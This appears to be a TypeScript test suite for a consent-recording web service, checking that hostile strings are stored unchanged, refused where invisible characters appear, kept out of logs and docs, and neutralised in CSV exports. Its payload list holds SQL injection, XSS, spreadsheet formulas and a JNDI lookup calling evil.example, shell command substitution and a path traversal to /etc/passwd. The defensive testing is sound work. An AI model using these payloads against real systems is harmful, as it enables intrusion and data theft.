/**
 * Texts that a program which reads the service's data might run: each is stored and answered unchanged, and nothing
 * runs it.
 */
import { parse } from "csv-parse/sync"
import * as fc from "fast-check"
import { Result } from "effect"
import { DatabaseSync } from "node:sqlite"
import { describe, expect, test } from "vitest"
import * as RecordedColumns from "../../adapters/files/RecordedColumns.ts"
import { fresh, organizations } from "../http/requests.ts"
import {
  acme,
  ask,
  asOwner,
  asVisitor,
  openSession,
  privacy,
  record,
  shop,
  startWorld,
  violations,
  yes,
} from "../http/world.ts"
import { served } from "../support/served.ts"

const server = served(startWorld)

const texts = [
  `'; DROP TABLE event; --`,
  `" OR ""="`,
  `') UNION SELECT value FROM secret --`,
  `%' OR 1=1 /*`,
  `1; ATTACH DATABASE '/tmp/x' AS x`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `</script><svg onload=alert(1)>`,
  `javascript:alert(1)`,
  `=HYPERLINK("http://evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\${jndi:ldap://evil.example/a}`,
  `{{constructor.constructor('return 1')()}}`,
  `$(touch /tmp/x); \`touch /tmp/x\``,
  `../../../../etc/passwd`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<html>`,
  `x"}\n{"level":"ERROR","message":"forged-line`,
  `\u001b[2J\u001b]0;forged\u0007`,
  `__proto__`,
  `constructor`,
  `\u202eevil\u202c`,
]

/** Whether a text may be an account identifier: characters that cannot be seen are refused in one. */
const isIdentifier = (text: string): boolean => !/[\p{Cc}\p{Cf}]/u.test(text)

/** No store keeps this one. */
const withNul = `\u202eevil\u202c\u0000`

const send = async (method: string, path: string, json: unknown) => {
  const answer = await server.request(method, path, { headers: asOwner, json })
  expect([path, answer.status < 300, answer.text.slice(0, 300)]).toEqual([path, true, answer.text.slice(0, 300)])
  return answer.json
}

/** The entries of every kind, except those that these tests make. */
const tables = (): unknown => {
  const database = new DatabaseSync(server.file, { readOnly: true, timeout: 10_000 })
  const rows = database.prepare("SELECT type, name, sql FROM sqlite_schema ORDER BY name").all()
  database.close()
  return rows
}

test("every text that an API key may write is answered as it was sent, by every list and filter", async () => {
  const before = tables()
  for (const text of texts) {
    const organization = await send("PATCH", `${organizations}/${acme.id}`, { name: text })
    const project = await send("POST", `${organizations}/${acme.id}/projects`, { name: text })
    const key = await send("POST", `${organizations}/${acme.id}/api-keys`, { name: text, role: "none" })
    expect([organization.name, project.name, key.name]).toEqual([text, text, text])
    const sent = { name: `Name ${text}`, description: text, document: text, category: "custom", subcategory: text }
    const type = await send("POST", `${privacy()}/consent-types`, { ...sent, label: fresh("label") })
    expect(type).toMatchObject({ ...sent, subcategory: [text] })
    const own = fresh(text)
    const person = isIdentifier(text) ? { userId: text, projectUserId: own } : { userId: fresh("user") }
    const item = yes({ consentType: type.id, ...person, externalId: own })
    const [event] = (await record(server, [item])).json.items
    expect(event).toMatchObject({ externalId: own, subcategory: [text] })
    for (const identifier of Object.entries(person)) {
      const { items } = (await ask(server, "consent-state", Object.fromEntries([identifier]))).json
      expect(items.map(({ id }: { id: string }) => id)).toContain(event.id)
    }
    // A filter finds only values equal to it.
    const filter = new URLSearchParams({ subcategory: text })
    const listed = (await server.request("GET", `${privacy()}/consent-events?${filter}`, { headers: asOwner })).json
    expect(listed.items.map(({ id }: { id: string }) => id)).toEqual([event.id])
  }
  expect(tables()).toEqual(before)
  expect(Object.prototype).not.toHaveProperty("isAdmin")
})

test("a text that no store keeps is refused by every member that is kept, and so is one that cannot be seen by every identifier", async () => {
  const refused = async (method: string, path: string, json: object) => {
    const answer = await server.request(method, path, { headers: asOwner, json })
    return [answer.status, ...violations(answer)]
  }
  const text = withNul
  const organization = `${organizations}/${acme.id}`
  expect(await refused("PATCH", organization, { name: text })).toEqual([422, "/name invalid"])
  expect(await refused("POST", `${organization}/projects`, { name: text })).toEqual([422, "/name invalid"])
  const key = { name: text, role: "none" }
  expect(await refused("POST", `${organization}/api-keys`, key)).toEqual([422, "/name invalid"])
  const sent = { name: `Name ${text}`, description: text, document: text, category: "custom", subcategory: text }
  const type = await refused("POST", `${privacy()}/consent-types`, { ...sent, label: fresh("label") })
  const members = ["description", "document", "name", "subcategory"]
  expect([type[0], type.slice(1).toSorted()]).toEqual([422, members.map((member) => `/${member} invalid`)])
  expect(violations(await record(server, [yes({ userId: "u", externalId: text })]))).toEqual([
    "/items/0/externalId invalid",
  ])
  // A refusal is recorded without it.
  const declined = yes({ consentState: "declined", userId: "u", projectUserId: text, externalId: text })
  const answer = await record(server, [declined])
  expect([answer.status, answer.json.items[0].leftOut]).toEqual([201, ["externalId", "projectUserId"]])
  for (const unseen of [...texts, withNul].filter((each) => !isIdentifier(each))) {
    for (const kind of ["userId", "projectUserId", "email", "phoneNumber"]) {
      const refusedItem = await record(server, [yes({ [kind]: unseen })])
      expect(violations(refusedItem)).toEqual([`/items/0/${kind} identifier_not_valid`])
      const asked = await ask(server, "consent-state", { [kind]: unseen })
      expect([asked.status, violations(asked)]).toEqual([400, [`?${kind} identifier_not_valid`]])
    }
  }
})

test("the reference shows nothing that a user wrote", async () => {
  const page = (await server.request("GET", "/docs")).text
  for (const text of texts.filter((each) => each.length > 12)) expect(page).not.toContain(text)
})

test("a line of the log is one JSON object, whatever was sent", async () => {
  const printable = [...texts, withNul].map((text) => text.replaceAll(/[^\x20-\x7e]/g, "?"))
  for (const text of printable) {
    await openSession(server, {}, shop, { "user-agent": text, "x-request-id": text, traceparent: text, referer: text })
    await server.request("GET", `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`, {
      headers: { "x-api-key": text },
    })
  }
  for (const text of [...texts, withNul]) await record(server, [yes({ userId: text, consentState: text })])
  // Only the line that it listens and that of the ledger are plain text, once.
  const lines = server
    .output()
    .replace(/^Assent listens on \S+ .*$/m, "")
    .replace(/^ledger: .*$/m, "")
    .split("\n")
    .filter((line) => line !== "")
  for (const line of lines) expect(() => JSON.parse(line)).not.toThrow()
  expect(server.output()).not.toContain("forged")
  expect(server.output()).not.toContain("\u001b")
})

describe("an export as CSV", () => {
  const event = { version: 1, category: "custom", subcategory: ["s"], label: "l", externalId: "", session: {} }
  const write = (more: object) =>
    parse(RecordedColumns.header + RecordedColumns.write([JSON.stringify({ ...event, ...more })]))
  const formula = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/

  // Mutant: no character is put before the text.
  test("holds no cell that a spreadsheet runs, and gives back every text as it was", () => {
    const text = fc.oneof(
      fc.constantFrom(...texts, withNul),
      fc.string({
        unit: fc.constantFrom("=", "+", "-", "@", "'", '"', " ", "\t", "\r", "\n", "\uff1d", ",", "a"),
        maxLength: 6,
      }),
    )
    fc.assert(
      fc.property(text, text, (externalId, userAgent) => {
        const [names, cells] = write({ externalId, session: { id: "s", userAgent } }) as [Array<string>, Array<string>]
        expect(cells.filter((cell) => formula.test(cell))).toEqual([])
        const row = Object.fromEntries(names.map((name, at) => [name, cells[at]!]))
        const read = Result.getOrThrow(RecordedColumns.read(row)) as {
          externalId: string
          session: { userAgent: string }
        }
        expect([read.externalId, read.session.userAgent]).toEqual([externalId, userAgent])
      }),
      { numRuns: 1000 },
    )
  })

  test("of a visitor whose browser calls itself a formula is a text", async () => {
    const visitor = (await openSession(server, {}, shop, { "user-agent": `=HYPERLINK("http://evil.example")` })).json
    const { items } = (await asVisitor(server, visitor, "POST", "consent-events", { json: { items: [yes()] } })).json
    const cells = (parse(RecordedColumns.write([JSON.stringify(items[0])])) as Array<Array<string>>)[0]!
    expect(cells.at(-4)).toBe(`'=HYPERLINK("http://evil.example")`)
  })
})
